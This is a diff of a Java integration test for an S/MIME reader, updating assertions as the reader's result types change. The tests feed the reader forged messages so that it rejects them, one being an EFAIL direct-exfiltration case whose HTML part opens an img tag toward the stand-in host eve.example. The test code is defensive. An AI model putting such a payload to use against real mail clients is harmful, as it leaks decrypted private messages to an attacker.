@@ -166,7 +166,8 @@ class SmimeReaderOpensslIT {
         openssl("cms -encrypt -aes-256-cbc -in letter -out encrypted practice.pem");
         openssl(SIGN + HEADERS + " -in encrypted -out made");
 
-        assertThat(reader.read(made(), identities())).isEqualTo(new SmimeReading.Unread(UnreadReason.NOT_AUTHENTIC));
+        assertThat(reader.read(made(), identities()))
+                .isEqualTo(new SmimeReading.Unread(UnreadReason.NOT_AUTHENTIC, true));
     }
 
     @Test
@@ -262,7 +263,7 @@ class SmimeReaderOpensslIT {
         RawMessage wrapped =
                 mixed("Content-Type: text/plain\n\nGive her 90 mg.\n", Files.readString(folder.resolve("signed")));
 
-        assertThat(reader.read(wrapped, identities())).isEqualTo(new SmimeReading.NotSmime(true));
+        assertThat(reader.read(wrapped, identities())).isEqualTo(new SmimeReading.NotSmime(SmimeReading.Left.PART));
     }
 
     /** EFAIL's direct exfiltration: the ciphertext as one part of a page. */
@@ -273,7 +274,7 @@ class SmimeReaderOpensslIT {
                 "Content-Type: text/html\n\n<img src=\"http://eve.example/\n",
                 Files.readString(folder.resolve("encrypted")));
 
-        assertThat(reader.read(page, identities())).isEqualTo(new SmimeReading.NotSmime(true));
+        assertThat(reader.read(page, identities())).isEqualTo(new SmimeReading.NotSmime(SmimeReading.Left.PART));
     }
 
     /** Nothing but white space may follow the parts that the signature divides. */
